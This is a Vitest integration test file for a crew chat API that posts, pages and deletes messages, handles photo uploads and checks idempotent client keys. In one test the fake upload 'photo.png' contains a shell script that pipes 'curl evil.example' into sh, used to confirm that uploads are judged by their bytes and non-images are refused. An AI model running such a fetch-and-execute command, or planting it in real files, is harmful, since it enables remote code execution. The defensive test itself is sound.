import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MESSAGE_MAX, MESSAGE_PAGE } from '#protocol/limits.ts';
import { MSG } from '#protocol/messages.ts';
import type { ChatMessage, ChatPage } from '#protocol/shapes.ts';
import type { EventOf } from '../../events/domain-events.ts';
import { defineSubscriber } from '../../events/event-bus.ts';
import { STORED_NAME } from '../../storage/file-store.ts';
import { makeUser, type SignedInUser } from '../../test/factories.ts';
import { sql } from '../../test/outbox.ts';
import { startTestApp, type TestApp } from '../../test/test-app.ts';
import { listUploads, multipartForm, png, type FilePart } from '../../test/uploads.ts';
import { roomPageQuery } from './base-chat.queries.ts';

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(async () => {
  await app?.close();
});

/** The chat card's call: text fields plus repeated `photos`. */
const form = (fields: Record<string, string>, parts: FilePart[] = []): FormData => multipartForm('photos', fields, parts);

let keys = 0;
const key = () => `key-${Date.now().toString(36)}-${keys++}`;
// Untyped answer: a refusal's body is {message}, a post's a ChatMessage.
const say = (crew: SignedInUser, content: string, chatType = 'reserve', extra: Record<string, unknown> = {}) =>
  crew.client.post('/api/base-chat', { chatType, content, ...extra });
const history = (crew: SignedInUser, chatType = 'reserve', before?: number) =>
  crew.client.get<ChatPage>(`/api/base-chat/${chatType}${before === undefined ? '' : `?before=${before}`}`);
const rowsOf = (userId: number) =>
  sql(app.databaseUrl, 'select id, content from base_chat_messages where user_id = $1 order by id', [userId]);
const onDisk = (name: string) =>
  fs.access(path.join(app.uploadDir, name)).then(
    () => true,
    () => false,
  );
async function filesLeftBy<T>(call: () => Promise<T>): Promise<{ result: T; left: string[] }> {
  const before = new Set(await listUploads(app.uploadDir));
  const result = await call();
  return { result, left: (await listUploads(app.uploadDir)).filter((f) => !before.has(f)) };
}

/** A base of its own per test, so rooms don't share messages across tests. */
let bases = 0;
const freshBase = () => `B${(bases++).toString(36).toUpperCase()}${Math.floor(Math.random() * 1000)}`.slice(0, 10);

describe('POST /api/base-chat', () => {
  it('posts JSON to the caller’s room and answers 201 with the ChatMessage', async () => {
    const base = freshBase();
    const me = await makeUser(app, { base, firstName: 'Robin', lastName: 'Pilot', employeeNumber: `R${base}` });
    const clientKey = key();
    const res = await say(me, 'Anyone swapping Friday?\nPing me', 'reserve', { clientKey });
    expect(res.status).toBe(201);
    expect(res.body).toEqual({
      id: expect.any(Number),
      userId: me.user.id,
      chatType: 'reserve',
      content: 'Anyone swapping Friday?\nPing me',
      attachments: [],
      createdAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
      user: { firstName: 'Robin', lastName: 'Pilot', profileImageUrl: null, employeeNumber: `R${base}` },
      clientKey,
    });
    expect((await history(me)).body).toEqual({ messages: [res.body], nextBefore: null });
  });

  it('posts photos as multipart; empty text with photos is stored as a single space; the files are served', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const res = await me.client.post<ChatMessage>(
      '/api/base-chat',
      form({ chatType: 'lineholder', content: '' }, [png('a.png'), png('b.png')]),
    );
    expect(res.status).toBe(201);
    expect(res.body.content).toBe(' ');
    expect(res.body.chatType).toBe('lineholder');
    expect(res.body.attachments).toHaveLength(2);
    expect(res.body.attachments.map((a) => a.originalName).sort()).toEqual(['a.png', 'b.png']);
    for (const a of res.body.attachments) {
      expect(a.filename).toMatch(STORED_NAME);
      const served = await me.client.get(`/uploads/${a.filename}`);
      expect(served.status).toBe(200);
      expect(served.headers.get('content-type')).toBe('image/png');
    }
    expect((await history(me, 'lineholder')).body.messages).toEqual([res.body]);
  });

  it('takes six photos and refuses seven with the chat text, storing nothing', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const six = await me.client.post(
      '/api/base-chat',
      form(
        { chatType: 'reserve', content: 'six' },
        Array.from({ length: 6 }, (_, i) => png(`p${i}.png`)),
      ),
    );
    expect(six.status).toBe(201);
    expect(six.body.attachments).toHaveLength(6);
    const { result: seven, left } = await filesLeftBy(() =>
      me.client.post(
        '/api/base-chat',
        form(
          { chatType: 'reserve', content: 'seven' },
          Array.from({ length: 7 }, (_, i) => png(`p${i}.png`)),
        ),
      ),
    );
    expect(seven.status).toBe(400);
    expect(seven.body.message).toBe(MSG.chatTooManyImages);
    expect(seven.body.message).toBe('You can upload a maximum of 6 images per message.');
    expect((await rowsOf(me.user.id)).map((r) => r.content)).toEqual(['six']);
    expect(left).toEqual([]);
  });

  it('refuses a script named .png (the bytes decide) and a text file, storing nothing', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const script = { name: 'photo.png', type: 'image/png', bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') };
    const { result: res, left } = await filesLeftBy(() =>
      me.client.post('/api/base-chat', form({ chatType: 'reserve', content: 'hi' }, [script])),
    );
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.onlyImages);
    expect(left).toEqual([]);
    const text = await me.client.post(
      '/api/base-chat',
      form({ chatType: 'reserve', content: 'hi' }, [{ name: 'n.txt', type: 'text/plain', bytes: Buffer.from('x') }]),
    );
    expect(text.status).toBe(400);
    expect(text.body.message).toBe(MSG.onlyImages);
    expect(await rowsOf(me.user.id)).toEqual([]);
  });

  it.each([
    ['JSON with blank text', { chatType: 'reserve', content: '  \n ' }],
    ['JSON without content', { chatType: 'reserve' }],
    ['a form with blank text and no photos', form({ chatType: 'reserve', content: '   ' })],
  ])('refuses %s: "%s"', async (_label, body) => {
    const me = await makeUser(app, { base: freshBase() });
    const res = await me.client.post('/api/base-chat', body);
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.messageEmpty);
    expect(await rowsOf(me.user.id)).toEqual([]);
  });

  it('refuses a chat type other than reserve or lineholder', async () => {
    const me = await makeUser(app, { base: freshBase() });
    for (const chatType of ['general', '', undefined]) {
      const res = await me.client.post('/api/base-chat', { chatType, content: 'hi' });
      expect(res.status).toBe(400);
      expect(res.body.message).toBe(MSG.chatTypeInvalid);
    }
  });

  it('refuses text over the limit and an invalid client key', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const long = await say(me, 'x'.repeat(MESSAGE_MAX + 1));
    expect(long.status).toBe(400);
    expect(long.body).toMatchObject({ message: MSG.messageTooLong });
    expect((await say(me, 'x'.repeat(MESSAGE_MAX))).status).toBe(201);
    const badKey = await say(me, 'hi', 'reserve', { clientKey: 'no spaces allowed' });
    expect(badKey.status).toBe(400);
    expect(badKey.body).toMatchObject({ message: MSG.clientKeyInvalid });
  });

  it('refuses a caller without a complete profile', async () => {
    const me = await makeUser(app, { profile: false });
    const res = await say(me, 'hello');
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.profileIncomplete);
    expect((await history(me)).body).toEqual({ messages: [], nextBefore: null });
  });

  it('announces a post with the message as its answer (poster’s copy, photos included): the room’s fan-out reads nothing again', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const announced: EventOf<'chat.posted'>[] = [];
    app.server.deps.events.subscribe(
      defineSubscriber({
        name: 'test: chat.posted',
        handles: ['chat.posted'],
        phase: 'reply',
        handle: (events) => void announced.push(...events.filter((e) => e.item.userId === me.user.id)),
      }),
    );
    const clientKey = key();
    const res = await me.client.post<ChatMessage>('/api/base-chat', form({ chatType: 'lineholder', content: 'see', clientKey }, [png()]));
    expect(res.status).toBe(201);
    expect(res.body.attachments).toHaveLength(1);
    expect(announced).toEqual([
      {
        type: 'chat.posted',
        messageId: res.body.id,
        room: { airline: me.user.airline, base: me.user.base, position: me.user.position, chatType: 'lineholder' },
        item: res.body,
      },
    ]);
    // A repeat of the key answers the stored message and announces nothing.
    const again = await say(me, 'see', 'lineholder', { clientKey });
    expect(again.status).toBe(200);
    expect(again.body).toEqual(res.body);
    expect(announced).toHaveLength(1);
  });

  it('stores a repeated client key once and answers the repeat 200 with the stored message', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const clientKey = key();
    const first = await say(me, 'once', 'reserve', { clientKey });
    expect(first.status).toBe(201);
    const again = await say(me, 'once', 'reserve', { clientKey });
    expect(again.status).toBe(200);
    expect(again.body).toEqual(first.body);
    // A retry with photos keeps the stored message, and its own photos leave the disk.
    const { result: withPhotos, left } = await filesLeftBy(() =>
      me.client.post('/api/base-chat', form({ chatType: 'reserve', content: 'once', clientKey }, [png()])),
    );
    expect(withPhotos.status).toBe(200);
    expect(withPhotos.body).toEqual(first.body);
    expect(left).toEqual([]);
    expect(await rowsOf(me.user.id)).toHaveLength(1);
    // Another user may use the same key: keys are per sender.
    const mate = await makeUser(app, { base: freshBase() });
    expect((await say(mate, 'mine', 'reserve', { clientKey })).status).toBe(201);
  });

  it('stores a key once when the same send races itself', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const clientKey = key();
    const answers = await Promise.all(Array.from({ length: 6 }, () => say(me, 'race', 'reserve', { clientKey })));
    expect(answers.map((a) => a.status).sort()).toEqual([200, 200, 200, 200, 200, 201]);
    expect(new Set(answers.map((a) => a.body.id)).size).toBe(1);
    expect(await rowsOf(me.user.id)).toHaveLength(1);
  });

  it('is 401 signed out, before the upload is read', async () => {
    const { result: res, left } = await filesLeftBy(() =>
      app.client().post('/api/base-chat', form({ chatType: 'reserve', content: 'hi' }, [png()])),
    );
    expect(res.status).toBe(401);
    expect(left).toEqual([]);
  });
});

describe('GET /api/base-chat/{chatType}', () => {
  it('shows the room of the caller’s airline, base and position (any aircraft), one chat type at a time', async () => {
    const base = freshBase();
    const me = await makeUser(app, { base, aircraftType: '737' });
    const sameRoomOtherAircraft = await makeUser(app, { base, aircraftType: 'A320' });
    const otherBase = await makeUser(app, { base: freshBase() });
    const otherPosition = await makeUser(app, { base, position: 'first_officer' });
    const otherAirline = await makeUser(app, { base, airline: 'United' });
    const mine = (await say(me, 'reserve here')).body;
    const theirs = (await say(sameRoomOtherAircraft, 'me too')).body;
    await say(me, 'line holders', 'lineholder');
    await say(otherBase, 'elsewhere');
    await say(otherPosition, 'FOs');
    await say(otherAirline, 'United');
    const page = await history(sameRoomOtherAircraft);
    expect(page.status).toBe(200);
    expect(page.body.messages.map((m) => m.content)).toEqual(['reserve here', 'me too']);
    // Others' keys stay theirs: the caller sees only their own.
    expect(page.body.messages[0]).toEqual({ ...mine, clientKey: null });
    expect(page.body.messages[1]).toEqual(theirs);
    expect((await history(me, 'lineholder')).body.messages.map((m) => m.content)).toEqual(['line holders']);
    expect((await history(otherBase)).body.messages.map((m) => m.content)).toEqual(['elsewhere']);
  });

  it('pages back with ?before= without gaps or repeats, oldest first within a page', async () => {
    const base = freshBase();
    const me = await makeUser(app, { base });
    const total = MESSAGE_PAGE * 2 + 7;
    // Rows written directly: the send rate limit is not what this test is about. Several share one instant.
    await sql(
      app.databaseUrl,
      `insert into base_chat_messages (user_id, airline, base, position, chat_type, content, created_at, updated_at)
       select $1, 'Delta', $2, 'captain', 'reserve', 'm' || g, now() - make_interval(secs => ($3 - g) / 3), now()
       from generate_series(1, $3) g`,
      [me.user.id, base, total],
    );
    const seen: string[] = [];
    let before: number | undefined;
    let pages = 0;
    for (;;) {
      const res = await history(me, 'reserve', before);
      expect(res.status).toBe(200);
      pages++;
      seen.unshift(...res.body.messages.map((m) => m.content));
      if (res.body.nextBefore === null) break;
      expect(res.body.messages).toHaveLength(MESSAGE_PAGE);
      expect(res.body.nextBefore).toBe(res.body.messages[0]!.id);
      before = res.body.nextBefore;
    }
    expect(pages).toBe(3);
    expect(seen).toEqual(Array.from({ length: total }, (_, i) => `m${i + 1}`));
  });

  it('pages on after the message named by ?before= was deleted', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const ids: number[] = [];
    for (const text of ['one', 'two', 'three']) ids.push((await say(me, text)).body.id);
    expect((await me.client.delete(`/api/base-chat/${ids[2]}`)).status).toBe(200);
    expect((await history(me, 'reserve', ids[2])).body.messages.map((m) => m.content)).toEqual(['one', 'two']);
    expect((await history(me, 'reserve', ids[1])).body.messages.map((m) => m.content)).toEqual(['one']);
  });

  it('reads a page through base_chat_room_index, stopping after a page (no sort of the whole room)', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const room = { airline: 'Delta', base: me.user.base!, position: 'captain', chatType: 'reserve' as const };
    // A busy room (and others beside it), so the planner sees what production sees.
    await sql(
      app.databaseUrl,
      `insert into base_chat_messages (user_id, airline, base, position, chat_type, content, created_at, updated_at)
       select $1, 'Delta', case when g % 4 = 0 then $2 else 'X' || (g % 50) end, 'captain', 'reserve', 'm' || g,
              now() - make_interval(secs => g), now()
       from generate_series(1, 20000) g`,
      [me.user.id, room.base],
    );
    await sql(app.databaseUrl, 'analyze base_chat_messages');
    const em = app.server.deps.orm.em.fork();
    const newest = (await history(me)).body.messages[0]!;
    const oldest = { id: newest.id - 15000, createdAt: new Date(Date.parse(newest.createdAt) - 15000_000).toISOString() };
    for (const cursor of [
      null,
      { id: newest.id, createdAt: newest.createdAt, direction: 'before' as const },
      // Catching up reads forward from the message held (?after=).
      { ...oldest, direction: 'after' as const },
    ]) {
      const compiled = roomPageQuery(em, room, cursor, MESSAGE_PAGE + 1).compile();
      const rows = await sql<{ 'QUERY PLAN': string }>(app.databaseUrl, `explain ${compiled.sql}`, [...compiled.parameters]);
      const plan = rows.map((r) => r['QUERY PLAN']).join('\n');
      expect(plan).toMatch(
        cursor?.direction === 'after'
          ? /Index Scan using base_chat_room_index on base_chat_messages/
          : /Index Scan Backward using base_chat_room_index on base_chat_messages/,
      );
      // Ties of one instant are put in id order as they come (incremental); never a sort of the room.
      expect(plan).not.toMatch(/(?<!Incremental )Sort\s+\(cost[^\n]*\n\s*Sort Key: m\.created_at/);
    }
  });

  it('refuses another chat type and a malformed cursor', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const res = await me.client.get('/api/base-chat/general');
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.chatTypeInvalid);
    // A garbage cursor names nothing the server sent: 400, like every list's (docs/decisions/0020).
    expect((await me.client.get('/api/base-chat/reserve?before=abc')).status).toBe(400);
    expect((await me.client.get('/api/base-chat/reserve?after=-1')).status).toBe(400);
    expect((await me.client.get('/api/base-chat/reserve?after=2147483648')).status).toBe(400);
    expect((await me.client.get('/api/base-chat/reserve?after=1&before=2')).status).toBe(400);
    expect((await me.client.get('/api/base-chat/reserve?cursor=WyJ4Il0')).status).toBe(400);
  });

  it('is 401 signed out', async () => {
    expect((await app.client().get('/api/base-chat/reserve')).status).toBe(401);
  });
});

describe('DELETE /api/base-chat/{id}', () => {
  it('deletes the own message, and its photos from the disk after the commit', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const kept = (await say(me, 'kept')).body;
    const gone = (
      await me.client.post<ChatMessage>('/api/base-chat', form({ chatType: 'reserve', content: 'gone' }, [png(), png('b.png')]))
    ).body;
    const files = gone.attachments.map((a) => a.filename);
    for (const f of files) expect(await onDisk(f)).toBe(true);
    const res = await me.client.delete(`/api/base-chat/${gone.id}`);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ message: MSG.chatMessageDeleted });
    expect((await history(me)).body.messages).toEqual([kept]);
    for (const f of files) {
      expect(await onDisk(f)).toBe(false);
      expect((await me.client.get(`/uploads/${f}`)).status).toBe(404);
    }
    expect(await sql(app.databaseUrl, 'select id from base_chat_message_attachments where message_id = $1', [gone.id])).toEqual([]);
    const again = await me.client.delete(`/api/base-chat/${gone.id}`);
    expect(again.status).toBe(404);
    expect(again.body.message).toBe(MSG.chatMessageNotFound);
  });

  it('refuses another’s message in the same room with 403, and one of another room with 404; both stay', async () => {
    const base = freshBase();
    const owner = await makeUser(app, { base });
    const mate = await makeUser(app, { base, aircraftType: 'A320' });
    const stranger = await makeUser(app, { base: freshBase() });
    const msg = (await owner.client.post<ChatMessage>('/api/base-chat', form({ chatType: 'reserve', content: 'mine' }, [png()]))).body;
    const forbidden = await mate.client.delete(`/api/base-chat/${msg.id}`);
    expect(forbidden.status).toBe(403);
    expect(forbidden.body.message).toBe(MSG.chatDeleteOwnOnly);
    const elsewhere = await stranger.client.delete(`/api/base-chat/${msg.id}`);
    expect(elsewhere.status).toBe(404);
    expect(elsewhere.body.message).toBe(MSG.chatMessageNotFound);
    expect((await history(owner)).body.messages).toEqual([msg]);
    expect(await onDisk(msg.attachments[0]!.filename)).toBe(true);
  });

  it.each(['999999', 'abc', '0'])('is 404 for the id %s', async (id) => {
    const me = await makeUser(app, { base: freshBase() });
    const res = await me.client.delete(`/api/base-chat/${id}`);
    expect(res.status).toBe(404);
    expect(res.body.message).toBe(MSG.chatMessageNotFound);
  });

  it('is 401 signed out', async () => {
    const me = await makeUser(app, { base: freshBase() });
    const msg = (await say(me, 'stay')).body;
    expect((await app.client().delete(`/api/base-chat/${msg.id}`)).status).toBe(401);
    expect((await history(me)).body.messages).toEqual([msg]);
  });
});
